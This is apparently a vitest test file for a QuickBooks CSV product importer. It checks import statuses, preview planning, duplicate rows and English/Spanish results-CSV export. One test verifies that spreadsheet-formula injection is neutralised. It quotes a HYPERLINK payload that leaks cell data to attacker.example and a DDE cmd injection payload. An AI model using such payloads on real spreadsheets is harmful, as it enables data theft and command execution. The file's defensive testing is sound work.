import { readFileSync } from "node:fs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { createI18n } from "~/i18n/instance";
import { resources } from "~/i18n/resources";
import { indexExisting, type ExistingProduct } from "./plan/decide";
import { planImport } from "./plan/plan";
import { understandFile } from "./pipeline";
import { asPlanned, resultsCsv, resultsCsvHeader, type ImportRowResult } from "./results";
import { ACTION_KEYS, AI_STATUS_KEYS, DB_STATUS_KEYS, FINAL_STATUS_KEYS, FINAL_STATUSES } from "./statuses";
import type { UnderstoodRow } from "./types";

const fixture = (name: string) => readFileSync(`tests/fixtures/quickbooks/${name}`);

async function understood(name: string) {
  const result = await understandFile(fixture(name));
  if (!result.ok) throw new Error(`${name} was refused`);
  return result.rows;
}

function lookup(lang: "en" | "es", key: string): unknown {
  return key
    .split(".")
    .reduce<unknown>((node, part) => (node as Record<string, unknown> | undefined)?.[part], resources[lang].import);
}

const product = (over: Partial<ExistingProduct> & { id: string }): ExistingProduct => ({
  quickbooksId: null,
  sku: null,
  priceCents: null,
  active: true,
  quantity: null,
  inList: true,
  archived: false,
  name: "Product",
  nameEs: "Producto",
  category: null,
  packValue: null,
  packUnit: null,
  ...over,
});

/** The rows as the screen's preview shows them before anything is written. */
const preview = (rows: UnderstoodRow[], existing: ExistingProduct[] = []) =>
  planImport(rows, indexExisting(existing)).results.map((result) => asPlanned(result));

const translator = (lang: "en" | "es") => {
  const t = createI18n(lang).getFixedT(lang, "import") as unknown as (
    key: string,
    values?: Record<string, string | number>,
  ) => string;
  return (key: string, values?: Record<string, string | number>) => t(key, values);
};

describe("the statuses", () => {
  it("has every final status of the specification, and one for a row staff left out, each worded once in both languages", () => {
    expect([...FINAL_STATUSES].sort()).toEqual(
      [
        "success",
        "error_ai",
        "error_db_product",
        "error_db_price",
        "skipped_not_a_product",
        "skipped_service_item",
        "skipped_known_non_product_code",
        "skipped_invalid_description",
        "skipped_by_staff",
        "processed_inactive",
        "error_system",
        "unknown_error",
        "pending",
      ].sort(),
    );
    const keys = [
      ...Object.values(AI_STATUS_KEYS),
      ...Object.values(DB_STATUS_KEYS),
      ...Object.values(FINAL_STATUS_KEYS),
      ...Object.values(ACTION_KEYS),
    ];
    for (const key of keys) {
      expect(typeof lookup("en", key), key).toBe("string");
      expect(typeof lookup("es", key), key).toBe("string");
    }
    // Each final status reads differently from the others.
    expect(new Set(Object.values(FINAL_STATUS_KEYS).map((k) => lookup("en", k))).size).toBe(13);
    expect(new Set(Object.values(ACTION_KEYS).map((k) => lookup("es", k))).size).toBe(6);
    expect(new Set(Object.values(FINAL_STATUS_KEYS).map((k) => lookup("es", k))).size).toBe(13);
  });
});

describe("the preview's results (asPlanned)", () => {
  it("gives every row of qbo_small.csv its AI status, pending or skipped database statuses and final status", async () => {
    const rows = await understood("qbo_small.csv");
    const results = preview(rows);
    expect(results).toHaveLength(69);
    const row = (n: number) => results.find((r) => r.row === n)!;
    expect(row(1)).toMatchObject({
      row: 1,
      batch: 1,
      item: "AVO48",
      name: "Hass Avocado",
      productId: null,
      aiStatus: "success",
      dbProductStatus: "pending",
      dbPriceStatus: "pending",
      finalStatus: "pending",
      action: "created",
      namedBy: "engine",
      messages: [],
    });
    // The inactive item is written (as inactive) and says so.
    expect(row(7).messages.map((m) => m.code)).toContain("inactive_item");
    expect(row(7)).toMatchObject({
      item: "MANGO KENT 8 (deleted)",
      aiStatus: "success",
      finalStatus: "pending",
      dbProductStatus: "pending",
      action: "created",
    });
    // The first TOMATILLO loses to the later row: nothing of it is written, and its message says why.
    expect(row(19)).toMatchObject({
      item: "TOMATILLO",
      action: "duplicate",
      dbProductStatus: "skipped",
      dbPriceStatus: "skipped",
      messages: [{ code: "duplicate_superseded", severity: "warning", params: { row: 32 } }],
    });
    expect(row(32).messages).toContainEqual({
      code: "duplicate_item",
      severity: "warning",
      params: { item: "TOMATILLO", firstRow: 19 },
    });
    const skipped = results.filter((r) => r.finalStatus.startsWith("skipped_"));
    expect(skipped).toHaveLength(20);
    for (const r of skipped) {
      expect(r).toMatchObject({ dbProductStatus: "skipped", dbPriceStatus: "skipped", action: "skipped", name: null });
    }
    expect(new Set(skipped.map((r) => r.aiStatus))).toEqual(
      new Set(["skipped_not_a_product", "skipped_known_non_product_code"]),
    );
  });

  it("carries the matched product's id, and skips the price of a row without one", async () => {
    const rows = await understood("qbo_small.csv");
    const existing = [
      product({ id: "p-avo48", quickbooksId: "AVO48", sku: "AVO-48", priceCents: 5400, quantity: 120 }),
    ];
    const results = preview(rows, existing);
    expect(results[0]).toMatchObject({ productId: "p-avo48", action: "unchanged" });
    const noPrice = { ...rows[1], priceCents: null };
    const [second] = preview([noPrice]);
    expect(second).toMatchObject({ dbProductStatus: "pending", dbPriceStatus: "skipped" });
  });

  it("shows a row the writer would refuse with the status and the reason it will get", async () => {
    const rows = await understood("qbo_small.csv");
    const existing = [
      product({
        id: "p-avo48",
        quickbooksId: "AVO48",
        sku: "AVO-48",
        priceCents: 100,
        archived: true,
        name: "Avocados",
      }),
    ];
    const [first] = preview(rows, existing);
    expect(first).toMatchObject({
      productId: "p-avo48",
      action: "error",
      finalStatus: "error_db_price",
      dbProductStatus: "skipped",
      dbPriceStatus: "error",
    });
    expect(first.messages[0]).toMatchObject({ code: "archived_price", params: { product: "Avocados" } });
  });
});

describe("resultsCsv", () => {
  it("neutralises the formulas of csv_injection.csv in every cell, in both languages", async () => {
    const rows = await understood("bad/csv_injection.csv");
    const results = preview(rows);
    for (const lang of ["en", "es"] as const) {
      const text = resultsCsv(results, translator(lang), lang, { modelConfigured: false });
      expect(text.startsWith("\uFEFF")).toBe(true);
      const parsed = Papa.parse<string[]>(text.slice(1).trimEnd(), { newline: "\r\n" }).data;
      expect(parsed).toHaveLength(results.length + 1);
      for (const line of parsed) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const items = parsed.slice(1).map((line) => line[2]);
      expect(items).toContain(`'=HYPERLINK("http://attacker.example/?d="&A1,"Click for price list")`);
      expect(items).toContain("'=cmd|' /C notepad'!'A1'");
    }
  });

  it("writes translated headers, statuses and messages", async () => {
    const rows = await understood("qbo_small.csv");
    const results = preview(rows);
    const [header, first, , , , , , seventh] = Papa.parse<string[]>(
      resultsCsv(results, translator("es"), "es", { modelConfigured: false }).slice(1).trimEnd(),
      { newline: "\r\n" },
    ).data;
    expect(header).toEqual([
      "Fila",
      "Línea",
      "Artículo de QuickBooks",
      "Nombre (inglés)",
      "Nombre (español)",
      "Categoría",
      "Contenido del empaque",
      "Unidad del empaque",
      "Precio",
      "SKU",
      "Cantidad en existencia",
      "ID del producto",
      "Acción",
      "Estado",
      "Producto en la base de datos",
      "Precio en la base de datos",
      "Estado final",
      "Mensaje",
    ]);
    expect(first.slice(0, 3)).toEqual(["1", "2", "AVO48"]);
    expect(first.slice(8, 9)).toEqual(["54.00"]);
    expect(first.slice(12)).toEqual(["Nuevo", "Procesado", "Pendiente", "Pendiente", "Pendiente", ""]);
    expect(seventh[17]).toContain("Inactivo en QuickBooks: se guarda como producto inactivo.");
  });

  it("speaks of AI in its header only when a model is configured", () => {
    for (const [lang, without, withModel] of [
      ["en", "Status", "AI status"],
      ["es", "Estado", "Estado de IA"],
    ] as const) {
      const header = (modelConfigured: boolean) => resultsCsvHeader(translator(lang), { modelConfigured });
      expect(header(false)[13]).toBe(without);
      expect(header(true)[13]).toBe(withModel);
      expect(header(false).join(",")).not.toMatch(/\b(AI|IA)\b/);
      expect(header(true).filter((cell, i) => cell !== header(false)[i])).toEqual([withModel]);
    }
  });

  it("words a run's stored row like the preview's", () => {
    const stored: ImportRowResult = {
      row: 1,
      batch: 1,
      line: 2,
      item: "AVO48",
      quickbooksId: "AVO48",
      name: "Hass Avocado",
      nameEs: "Aguacate Hass",
      category: "fruits",
      packValue: 48,
      packUnit: "ct",
      unit: "case",
      priceCents: 5400,
      sku: "AVO-48",
      quantity: null,
      productId: "p1",
      action: "error",
      match: null,
      candidates: [],
      namedBy: "engine",
      aiStatus: "success",
      dbProductStatus: "skipped",
      dbPriceStatus: "error",
      finalStatus: "error_db_price",
      messages: [],
    };
    expect(resultsCsv([stored], translator("en"), "en", { modelConfigured: true })).toBe(
      "\uFEFFRow,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,AI status,Product in database,Price in database,Final status,Message\r\n" +
        "1,2,AVO48,Hass Avocado,Aguacate Hass,fruits,48,ct,54.00,AVO-48,,p1,Error,Processed,Skipped,Error,Price not saved,\r\n",
    );
  });
});
